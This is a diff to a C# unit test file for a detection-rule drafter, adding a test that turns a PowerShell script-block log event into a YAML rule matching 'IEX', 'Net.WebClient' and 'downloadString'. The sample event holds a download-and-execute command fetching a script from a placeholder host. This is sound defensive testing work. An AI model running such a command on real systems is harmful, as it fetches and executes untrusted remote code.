@@ -78,6 +78,14 @@ public sealed class RuleDrafterTests
     }
 
     [Fact]
+    public void Asks_a_script_for_what_it_calls()
+    {
+        var draft = Draft("""{"Event":{"System":{"EventID":4104,"Channel":"Microsoft-Windows-PowerShell/Operational","Computer":"WS-1"},"EventData":{"ScriptBlockText":"IEX(New-Object Net.WebClient).downloadString('https://files.example/a.ps1');$zq81x = 12","ScriptBlockId":"{6f1c2b1e-5e3f-6918-0a01-000000001a00}"}}}""");
+
+        Assert.Contains("ScriptBlockText|contains|all:\n      - 'New-Object'\n      - 'Net.WebClient'\n      - 'IEX'\n      - 'downloadString'\n", draft.Yaml, StringComparison.Ordinal);
+    }
+
+    [Fact]
     public void Asks_a_cloud_event_for_its_operation()
     {
         var draft = Draft("""{"eventVersion":"1.10","eventTime":"2026-01-01T00:00:00Z","eventSource":"cloudtrail.amazonaws.com","eventName":"StopLogging","awsRegion":"eu-central-1","sourceIPAddress":"203.0.113.4","userIdentity":{"type":"IAMUser","arn":"arn:aws:iam::1:user/x"},"requestID":"7b1e7f9c-0000-4c55-9d0b-000000000001"}""");
